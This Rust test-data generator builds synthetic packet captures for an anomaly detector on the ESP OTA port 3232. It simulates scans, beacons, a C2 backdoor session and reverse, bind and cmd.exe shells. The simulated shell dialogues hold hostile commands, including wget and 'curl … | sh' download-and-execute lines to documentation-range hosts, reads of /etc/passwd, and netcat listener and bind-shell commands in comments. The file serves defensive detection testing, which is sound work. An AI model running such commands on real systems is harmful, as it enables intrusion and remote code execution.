//! `testdata/anomaly/mixed.pcap`: what the anomaly path must report on port 3232, with
//! legitimate espota traffic and background mixed in. `tests/anomaly.rs` asserts exactly the
//! events listed on [`mixed`].

use crate::capture::Record;
use crate::espota;
use crate::frame::{self, tcp_flags::*, Link, ESPRESSIF_MAC, LAPTOP_MAC};
use crate::rng::Rng;
use crate::scenarios::{background, ip, Timeline, ESP32, ESP8266, UPLOADER};
use std::net::IpAddr;

/// The TLS client's server name.
pub const TLS_SNI: &str = "update.c2-example.net";
pub const SSH_SERVER_BANNER: &str = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13";
pub const SSH_CLIENT_BANNER: &str = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6";

/// One TCP conversation with sequence numbers kept right.
pub struct TcpConv {
    pub client: (IpAddr, u16),
    pub server: (IpAddr, u16),
    cseq: u32,
    sseq: u32,
}

impl TcpConv {
    pub fn new(client: (IpAddr, u16), server: (IpAddr, u16), rng: &mut Rng) -> Self {
        TcpConv {
            client,
            server,
            cseq: rng.next_u64() as u32,
            sseq: rng.next_u64() as u32,
        }
    }

    fn c(&mut self, t: &mut Timeline, flags: u8, data: &[u8]) {
        let (c, s) = (self.client, self.server);
        t.push_ip(
            frame::tcp(c.0, s.0, c.1, s.1, self.cseq, self.sseq, flags, data),
            true,
        );
        self.cseq = self
            .cseq
            .wrapping_add(data.len() as u32 + u32::from(flags & (SYN | FIN) != 0));
    }

    fn s(&mut self, t: &mut Timeline, flags: u8, data: &[u8]) {
        let (c, s) = (self.client, self.server);
        t.push_ip(
            frame::tcp(s.0, c.0, s.1, c.1, self.sseq, self.cseq, flags, data),
            false,
        );
        self.sseq = self
            .sseq
            .wrapping_add(data.len() as u32 + u32::from(flags & (SYN | FIN) != 0));
    }

    pub fn handshake(&mut self, t: &mut Timeline) {
        self.c(t, SYN, b"");
        self.s(t, SYN | ACK, b"");
        self.c(t, ACK, b"");
    }

    pub fn client_says(&mut self, t: &mut Timeline, data: &[u8]) {
        self.c(t, PSH | ACK, data);
        self.s(t, ACK, b"");
    }

    /// `data` in two segments split at `split`, the first one sent twice (a retransmission).
    pub fn client_says_with_retransmission(&mut self, t: &mut Timeline, data: &[u8], split: usize) {
        let (c, s) = (self.client, self.server);
        let first = frame::tcp(
            c.0,
            s.0,
            c.1,
            s.1,
            self.cseq,
            self.sseq,
            PSH | ACK,
            &data[..split],
        );
        t.push_ip(first.clone(), true);
        t.push_ip(first, true);
        self.cseq = self.cseq.wrapping_add(split as u32);
        self.client_says(t, &data[split..]);
    }

    pub fn server_says(&mut self, t: &mut Timeline, data: &[u8]) {
        self.s(t, PSH | ACK, data);
        self.c(t, ACK, b"");
    }

    pub fn close(&mut self, t: &mut Timeline) {
        self.c(t, FIN | ACK, b"");
        self.s(t, FIN | ACK, b"");
        self.c(t, ACK, b"");
    }
}

fn ext(out: &mut Vec<u8>, ty: u16, body: &[u8]) {
    out.extend_from_slice(&ty.to_be_bytes());
    out.extend_from_slice(&(body.len() as u16).to_be_bytes());
    out.extend_from_slice(body);
}

/// A TLS 1.3 ClientHello record as a modern client sends it (GREASE included).
pub fn client_hello(sni: &str, rng: &mut Rng) -> Vec<u8> {
    client_hello_padded(sni, 0, rng)
}

/// The same with a padding extension (RFC 7685) of `padding` zero bytes when not 0.
pub fn client_hello_padded(sni: &str, padding: usize, rng: &mut Rng) -> Vec<u8> {
    let mut exts = Vec::new();
    ext(&mut exts, 0x2a2a, b"");
    let mut s = ((sni.len() + 3) as u16).to_be_bytes().to_vec();
    s.push(0);
    s.extend_from_slice(&(sni.len() as u16).to_be_bytes());
    s.extend_from_slice(sni.as_bytes());
    ext(&mut exts, 0x0000, &s);
    ext(&mut exts, 0x0017, b"");
    ext(&mut exts, 0xff01, &[0]);
    ext(
        &mut exts,
        0x000a,
        &[0, 8, 0x2a, 0x2a, 0, 0x1d, 0, 0x17, 0, 0x18],
    );
    ext(&mut exts, 0x000b, &[1, 0]);
    ext(&mut exts, 0x0023, b"");
    ext(&mut exts, 0x0010, b"\x00\x0c\x02h2\x08http/1.1");
    ext(&mut exts, 0x000d, &[0, 8, 4, 3, 8, 4, 4, 1, 5, 3]);
    ext(&mut exts, 0x002b, &[6, 0x2a, 0x2a, 3, 4, 3, 3]);
    ext(&mut exts, 0x002d, &[1, 1]);
    let mut ks = vec![0, 38, 0, 0x1d, 0, 32];
    ks.extend_from_slice(&rng.bytes(32));
    ext(&mut exts, 0x0033, &ks);
    if padding > 0 {
        ext(&mut exts, 0x0015, &vec![0; padding]);
    }
    let mut body = vec![3, 3];
    body.extend_from_slice(&rng.bytes(32));
    body.push(32);
    body.extend_from_slice(&rng.bytes(32));
    let ciphers: [u16; 8] = [
        0x2a2a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc030, 0x009c,
    ];
    body.extend_from_slice(&((ciphers.len() * 2) as u16).to_be_bytes());
    ciphers
        .iter()
        .for_each(|c| body.extend_from_slice(&c.to_be_bytes()));
    body.extend_from_slice(&[1, 0]);
    body.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    body.extend_from_slice(&exts);
    let mut rec = vec![22, 3, 1];
    rec.extend_from_slice(&((body.len() + 4) as u16).to_be_bytes());
    rec.extend_from_slice(&[1, 0, (body.len() >> 8) as u8, body.len() as u8]);
    rec.extend_from_slice(&body);
    rec
}

/// A TLS 1.3 ServerHello record choosing TLS_AES_128_GCM_SHA256.
pub fn server_hello(rng: &mut Rng) -> Vec<u8> {
    let mut exts = Vec::new();
    ext(&mut exts, 0x002b, &[3, 4]);
    let mut ks = vec![0, 0x1d, 0, 32];
    ks.extend_from_slice(&rng.bytes(32));
    ext(&mut exts, 0x0033, &ks);
    let mut body = vec![3, 3];
    body.extend_from_slice(&rng.bytes(32));
    body.push(32);
    body.extend_from_slice(&rng.bytes(32));
    body.extend_from_slice(&[0x13, 0x01, 0]);
    body.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    body.extend_from_slice(&exts);
    let mut rec = vec![22, 3, 3];
    rec.extend_from_slice(&((body.len() + 4) as u16).to_be_bytes());
    rec.extend_from_slice(&[2, 0, (body.len() >> 8) as u8, body.len() as u8]);
    rec.extend_from_slice(&body);
    // ChangeCipherSpec and an encrypted record, as TLS 1.3 servers follow up.
    rec.extend_from_slice(&[20, 3, 3, 0, 1, 1, 23, 3, 3, 0, 48]);
    rec.extend_from_slice(&rng.bytes(48));
    rec
}

pub const ATTACKER: &str = "198.51.100.7";
pub const TLS_HOST: &str = "192.0.2.60";
pub const HTTP_HOST: &str = "192.0.2.61";
pub const SSH_HOST: &str = "192.0.2.62";
pub const UDP_JUNK_SRC: &str = "198.51.100.8";
pub const UDP_JUNK_HOST: &str = "192.0.2.63";
pub const C2_OPERATOR: &str = "203.0.113.9";
pub const BACKDOORED: &str = "192.0.2.64";
pub const BEACONER: &str = "192.0.2.65";
pub const BEACON_C2: &str = "203.0.113.10";
pub const SYN_SCANNER: &str = "198.51.100.66";
pub const OPEN_HOST: &str = "192.0.2.77";
pub const UDP_SCANNER: &str = "198.51.100.67";
pub const VSCANNER: &str = "198.51.100.68";
pub const VSCAN_HOST: &str = "192.0.2.90";
pub const LONE_CLIENT: &str = "198.51.100.9";
pub const LONE_HOST: &str = "192.0.2.91";
pub const BULK_CLIENT: &str = "198.51.100.12";
pub const BULK_HOST: &str = "192.0.2.66";
pub const CONN_BEACONER: &str = "192.0.2.67";
pub const CONN_BEACON_C2: &str = "203.0.113.11";

/// The mixed capture. Anomaly events expected (in `tests/anomaly.rs`):
/// 1. TLS 1.3 to 192.0.2.60:3232 with SNI [`TLS_SNI`], ServerHello back → `unexpected_tcp_service`, tls.
/// 2. HTTP GET to 192.0.2.61:3232, `SimpleHTTP` answers → `unexpected_tcp_service`, http.
/// 3. SSH to 192.0.2.62:3232 → `unexpected_tcp_service`, ssh.
/// 4. Three random 200-byte datagrams to 192.0.2.63:3232 → `unknown_protocol`, binary.
/// 5. A typed shell dialogue with a backdoor on 192.0.2.64:3232 → `interactive_session`, text.
/// 6. 192.0.2.65 → 203.0.113.10:3232 every ~30 s, ~50-byte text → `beacon`.
/// 7. SYN scan of 192.0.2.0/24 port 3232 by 198.51.100.66 (RST from some, SYN-ACK from .77)
///    → one `scan` (TCP, 254 targets) + `unexpected_tcp_service` for 192.0.2.77.
/// 8. UDP scan of 203.0.113.1-40 port 3232 by 198.51.100.67 → one `scan` (UDP, 40 targets).
/// 9. Vertical scan of 192.0.2.90 on 3232, 8266, 2040 → one `scan` (vertical).
/// 10. Three unanswered SYNs to 192.0.2.91:3232 → `unknown_protocol`, empty.
/// 11. An invitation with a 31-character MD5 → `malformed_ota`.
/// 12. 250 binary segments to 192.0.2.66:3232 → `unexpected_tcp_service` early, then update.
/// 13. 192.0.2.67 opens an HTTP connection to 203.0.113.11:3232 every ~30 s, 8 times → four
///     `unexpected_tcp_service` (http), then four `beacon` (across flows).
///
/// Legitimate, no anomaly: espota invitations to an ESP32 (3232) and an ESP8266 (8266) with
/// their replies, an auth exchange, Data-MDT joins to 224.0.0.13:3232 every 60 s, and DNS/HTTP
/// background on other ports.
pub fn mixed() -> Vec<Record> {
    let mut t = Timeline::new(Link::Ethernet {
        src: LAPTOP_MAC,
        dst: ESPRESSIF_MAC,
    });
    let mut rng = Rng::new(0x3232_a0a1);
    let image = rng.bytes(2048);
    let md5 = espota::md5_hex(&image);
    let (uploader, esp32) = (ip(UPLOADER), ip(ESP32));

    background(&mut t, &mut rng, 3);
    // Legitimate: invitation → OK on 3232; invitation → AUTH → answer → OK on 8266.
    t.udp(
        (uploader, 45001),
        (esp32, 3232),
        &espota::invitation(espota::FLASH, 42001, image.len(), &md5),
        true,
    );
    t.udp((esp32, 3232), (uploader, 45001), b"OK", false);
    let nonce = espota::device_nonce_md5(77_000_123);
    t.udp(
        (uploader, 45002),
        (ip(ESP8266), 8266),
        &espota::invitation(espota::FLASH, 42002, image.len(), &md5),
        true,
    );
    t.udp(
        (ip(ESP8266), 8266),
        (uploader, 45002),
        &espota::auth_challenge(&nonce),
        false,
    );
    let (answer, _, _) =
        espota::auth_answer_md5("fw.bin", image.len(), &md5, ESP8266, "secret", &nonce);
    t.udp((uploader, 45002), (ip(ESP8266), 8266), &answer, true);
    t.udp((ip(ESP8266), 8266), (uploader, 45002), b"OK", false);

    // 1. TLS.
    let mut c = TcpConv::new((ip(ATTACKER), 51000), (ip(TLS_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    let hello = client_hello(TLS_SNI, &mut rng);
    c.client_says(&mut t, &hello);
    c.server_says(&mut t, &server_hello(&mut rng));
    c.close(&mut t);
    // 2. HTTP.
    let mut c = TcpConv::new((ip(ATTACKER), 51001), (ip(HTTP_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    c.client_says(&mut t, b"GET /cmd?id=7 HTTP/1.1\r\nHost: 192.0.2.61:3232\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n");
    c.server_says(
        &mut t,
        b"HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.12.3\r\nContent-Length: 2\r\n\r\nok",
    );
    c.close(&mut t);
    // 3. SSH: the server speaks first.
    let mut c = TcpConv::new((ip(ATTACKER), 51002), (ip(SSH_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    c.server_says(&mut t, format!("{SSH_SERVER_BANNER}\r\n").as_bytes());
    c.client_says(&mut t, format!("{SSH_CLIENT_BANNER}\r\n").as_bytes());
    let kex = rng.bytes(600);
    c.client_says(&mut t, &kex);
    c.close(&mut t);
    // 4. Random bytes over UDP.
    for _ in 0..3 {
        let junk = rng.bytes(200);
        t.udp(
            (ip(UDP_JUNK_SRC), 40000),
            (ip(UDP_JUNK_HOST), 3232),
            &junk,
            true,
        );
        t.advance_ms(500);
    }
    background(&mut t, &mut rng, 2);
    // 5. A text C2 dialogue at human pace.
    let mut c = TcpConv::new((ip(C2_OPERATOR), 49152), (ip(BACKDOORED), 3232), &mut rng);
    c.handshake(&mut t);
    c.server_says(&mut t, b"# ");
    let dialogue: [(&[u8], &[u8]); 5] = [
        (b"id\n", b"uid=0(root) gid=0(root) groups=0(root)\n# "),
        (
            b"uname -a\n",
            b"Linux cam-7 4.9.37 #1 SMP armv7l GNU/Linux\n# ",
        ),
        (
            b"cat /etc/passwd | head -2\n",
            b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n# ",
        ),
        (
            b"wget http://203.0.113.9/x -O /tmp/x\n",
            b"Connecting to 203.0.113.9:80... saved\n# ",
        ),
        (b"exit\n", b"bye\n"),
    ];
    for (i, (cmd, out)) in dialogue.iter().enumerate() {
        t.advance_ms(2500 + 1700 * i as i64);
        c.client_says(&mut t, cmd);
        t.advance_ms(40);
        c.server_says(&mut t, out);
    }
    c.close(&mut t);
    // 7. SYN scan of 192.0.2.0/24 on 3232; 8. UDP scan; 9. vertical scan.
    let (beaconer, c2) = (ip(BEACONER), ip(BEACON_C2));
    let scanner = ip(SYN_SCANNER);
    let beat = |t: &mut Timeline, rng: &mut Rng, seq: u32| {
        let msg = format!(
            "HB dev=cam-65 seq={seq:03} up={} load=0.{}\n",
            86_400 + seq * 30,
            rng.range(10, 99)
        );
        t.udp((beaconer, 50000), (c2, 3232), msg.as_bytes(), true);
        t.advance_ms(60);
        t.udp((c2, 3232), (beaconer, 50000), b"OK\n", false);
    };
    for host in 1..=254u8 {
        let target: IpAddr = format!("192.0.2.{host}").parse().expect("address");
        let sport = 60000 + u16::from(host);
        let seq = rng.next_u64() as u32;
        t.push_ip(
            frame::tcp(scanner, target, sport, 3232, seq, 0, SYN, b""),
            true,
        );
        match host {
            77 => {
                let s = rng.next_u64() as u32;
                t.push_ip(
                    frame::tcp(
                        target,
                        scanner,
                        3232,
                        sport,
                        s,
                        seq.wrapping_add(1),
                        SYN | ACK,
                        b"",
                    ),
                    false,
                );
                t.push_ip(
                    frame::tcp(
                        scanner,
                        target,
                        sport,
                        3232,
                        seq.wrapping_add(1),
                        0,
                        RST,
                        b"",
                    ),
                    true,
                );
            }
            h if h % 16 == 0 => {
                t.push_ip(
                    frame::tcp(
                        target,
                        scanner,
                        3232,
                        sport,
                        0,
                        seq.wrapping_add(1),
                        RST | ACK,
                        b"",
                    ),
                    false,
                );
            }
            _ => {}
        }
        t.advance_ms(8);
    }
    for host in 1..=40u8 {
        let target: IpAddr = format!("203.0.113.{host}").parse().expect("address");
        t.udp((ip(UDP_SCANNER), 41234), (target, 3232), b"", true);
        t.advance_ms(15);
    }
    for port in [3232u16, 8266, 2040] {
        let seq = rng.next_u64() as u32;
        let target = ip(VSCAN_HOST);
        t.push_ip(
            frame::tcp(ip(VSCANNER), target, 61000, port, seq, 0, SYN, b""),
            true,
        );
        t.push_ip(
            frame::tcp(
                target,
                ip(VSCANNER),
                port,
                61000,
                0,
                seq.wrapping_add(1),
                RST | ACK,
                b"",
            ),
            false,
        );
    }
    // 10. A lone client: three SYNs (retransmissions), no answer.
    let seq = rng.next_u64() as u32;
    for wait in [0, 1000, 2000] {
        t.advance_ms(wait);
        t.push_ip(
            frame::tcp(
                ip(LONE_CLIENT),
                ip(LONE_HOST),
                52000,
                3232,
                seq,
                0,
                SYN,
                b"",
            ),
            true,
        );
    }
    // 11. A malformed invitation (31-character MD5).
    t.udp(
        (uploader, 45003),
        (esp32, 3232),
        format!("0 42003 2048 {}\n", &md5[..31]).as_bytes(),
        true,
    );
    // 12. A long binary transfer: judged early, updated at its end.
    let mut c = TcpConv::new((ip(BULK_CLIENT), 53000), (ip(BULK_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    for _ in 0..125 {
        let chunk = rng.bytes(100);
        c.client_says(&mut t, &chunk);
    }
    c.close(&mut t);
    // 6. The beacon: eight heartbeats, 30 s apart with a little jitter, each answered.
    // Legitimate too: a PE's Data-MDT join (RFC 6037 §7.2) to ALL-PIM-ROUTERS every 60 s.
    let join = [1, 0, 16, 0, 10, 1, 1, 1, 232, 1, 1, 1, 239, 232, 0, 1];
    for seq in 0..8u32 {
        if seq % 2 == 0 {
            t.udp(
                (ip("10.255.0.1"), 3232),
                (ip("224.0.0.13"), 3232),
                &join,
                true,
            );
        }
        beat(&mut t, &mut rng, seq);
        // 13. One HTTP connection per check-in, same period: flows 1-4 are reported on their
        // own (`unexpected_tcp_service`), flows 5-8 as a `beacon` across flows.
        let sport = 50100 + seq as u16;
        let mut c = TcpConv::new(
            (ip(CONN_BEACONER), sport),
            (ip(CONN_BEACON_C2), 3232),
            &mut rng,
        );
        c.handshake(&mut t);
        let body = format!("id=cam-67&seq={seq:03}");
        let req = format!(
            "POST /c HTTP/1.1\r\nHost: 203.0.113.11\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        c.client_says(&mut t, req.as_bytes());
        c.server_says(&mut t, b"HTTP/1.1 204 No Content\r\n\r\n");
        c.close(&mut t);
        t.advance_ms(30_000 - 400 + rng.range(0, 800) as i64);
    }
    t.records
}

/// A reverse shell: the ESP32-hosting gateway 192.0.2.70 connects out to a listener on
/// 203.0.113.20:3232 (`nc -lvnp 3232`) and runs `bash -i`; the operator downloads and runs a
/// script → `interactive_session`, critical (download and execute).
pub const REVERSE_VICTIM: &str = "192.0.2.70";
pub const REVERSE_LISTENER: &str = "203.0.113.20";
/// A bind shell: `nc -lp 3232 -e /bin/sh` on 192.0.2.71 as root, used from 198.51.100.30
/// (no prompt: sh without a terminal) → `interactive_session`, critical (`uid=0(root)`).
pub const BIND_HOST: &str = "192.0.2.71";
pub const BIND_CLIENT: &str = "198.51.100.30";
/// A Windows `cmd.exe` bound to 192.0.2.72:3232, used from 198.51.100.31 → `interactive_session`,
/// high.
pub const CMD_HOST: &str = "192.0.2.72";
pub const CMD_CLIENT: &str = "198.51.100.31";
/// A sensor 192.0.2.73 sending `temp=… hum=…` lines to a collector on 192.0.2.5:3232 at
/// irregular times → `unexpected_tcp_service`, text: no shell.
pub const FEED_SENSOR: &str = "192.0.2.73";
pub const FEED_COLLECTOR: &str = "192.0.2.5";

/// One typed command and what comes back, after `pause_ms` of typing.
fn dialogue(
    t: &mut Timeline,
    c: &mut TcpConv,
    cmd_from_client: bool,
    turns: &[(i64, &[u8], &[u8])],
) {
    for (pause_ms, cmd, out) in turns {
        t.advance_ms(*pause_ms);
        if cmd_from_client {
            c.client_says(t, cmd);
            t.advance_ms(30);
            c.server_says(t, out);
        } else {
            c.server_says(t, cmd);
            t.advance_ms(30);
            c.client_says(t, out);
        }
    }
}

fn shell_timeline() -> Timeline {
    Timeline::new(Link::Ethernet {
        src: LAPTOP_MAC,
        dst: ESPRESSIF_MAC,
    })
}

/// `testdata/anomaly/reverse_shell.pcap`: see [`REVERSE_VICTIM`].
pub fn reverse_shell() -> Vec<Record> {
    let mut t = shell_timeline();
    let mut rng = Rng::new(0x3232_5e11);
    let mut c = TcpConv::new(
        (ip(REVERSE_VICTIM), 41822),
        (ip(REVERSE_LISTENER), 3232),
        &mut rng,
    );
    c.handshake(&mut t);
    t.advance_ms(200);
    c.client_says(&mut t, b"bash: no job control in this shell\nbash-5.2$ ");
    dialogue(
        &mut t,
        &mut c,
        false,
        &[
            (
                3100,
                b"id\n",
                b"uid=1000(gw) gid=1000(gw) groups=1000(gw),20(dialout)\nbash-5.2$ ",
            ),
            (
                2400,
                b"uname -a\n",
                b"Linux gw-2 6.1.21-v8+ #1642 SMP PREEMPT aarch64 GNU/Linux\nbash-5.2$ ",
            ),
            (
                5200,
                b"curl -s http://203.0.113.20/k.sh | sh\n",
                b"installed\nbash-5.2$ ",
            ),
        ],
    );
    t.advance_ms(1800);
    c.close(&mut t);
    t.records
}

/// `testdata/anomaly/bind_shell.pcap`: see [`BIND_HOST`].
pub fn bind_shell() -> Vec<Record> {
    let mut t = shell_timeline();
    let mut rng = Rng::new(0x3232_b1d0);
    let mut c = TcpConv::new((ip(BIND_CLIENT), 52311), (ip(BIND_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    dialogue(
        &mut t,
        &mut c,
        true,
        &[
            (1900, b"whoami\n", b"root\n"),
            (
                2700,
                b"id\n",
                b"uid=0(root) gid=0(root) groups=0(root),1(bin)\n",
            ),
            (
                3300,
                b"cat /etc/passwd\n",
                b"root:x:0:0:root:/root:/bin/ash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n",
            ),
        ],
    );
    t.advance_ms(2200);
    c.close(&mut t);
    t.records
}

/// `testdata/anomaly/cmd_exe.pcap`: a replayed `cmd.exe` transcript, see [`CMD_HOST`].
pub fn cmd_exe() -> Vec<Record> {
    let mut t = shell_timeline();
    let mut rng = Rng::new(0x3232_c3d0);
    let mut c = TcpConv::new((ip(CMD_CLIENT), 49733), (ip(CMD_HOST), 3232), &mut rng);
    c.handshake(&mut t);
    t.advance_ms(50);
    c.server_says(
        &mut t,
        b"Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>",
    );
    dialogue(
        &mut t,
        &mut c,
        true,
        &[
            (2600, b"whoami\r\n", b"whoami\r\nnt authority\\system\r\n\r\nC:\\Windows\\system32>"),
            (
                4100,
                b"ipconfig\r\n",
                b"ipconfig\r\n\r\nWindows IP Configuration\r\n\r\n   IPv4 Address. . . . . . . . . . . : 192.0.2.72\r\n\r\nC:\\Windows\\system32>",
            ),
            (3000, b"exit\r\n", b"exit\r\n"),
        ],
    );
    c.close(&mut t);
    t.records
}

/// `testdata/anomaly/sensor_feed.pcap`: see [`FEED_SENSOR`].
pub fn sensor_feed() -> Vec<Record> {
    let mut t = shell_timeline();
    let mut rng = Rng::new(0x3232_fee0);
    let mut c = TcpConv::new(
        (ip(FEED_SENSOR), 50514),
        (ip(FEED_COLLECTOR), 3232),
        &mut rng,
    );
    c.handshake(&mut t);
    c.server_says(&mut t, b"collector 1.4 ready\n");
    // Sent when a value changes: irregular, so no beacon either.
    for (pause_ms, line) in [
        (1200, "temp=21.5 hum=40\n"),
        (4100, "temp=21.6 hum=40\n"),
        (2300, "temp=21.6 hum=41\n"),
        (7700, "temp=21.7 hum=41\n"),
        (3100, "temp=21.5 hum=42\n"),
        (9400, "temp=21.4 hum=42\n"),
    ] {
        t.advance_ms(pause_ms);
        c.client_says(&mut t, line.as_bytes());
    }
    c.close(&mut t);
    t.records
}

/// Builds one capture's records.
pub type Build = fn() -> Vec<Record>;

/// The shell captures and the benign text feed, by file name (under `testdata/anomaly/`).
pub fn shells() -> Vec<(&'static str, Build)> {
    vec![
        ("reverse_shell", reverse_shell),
        ("bind_shell", bind_shell),
        ("cmd_exe", cmd_exe),
        ("sensor_feed", sensor_feed),
    ]
}
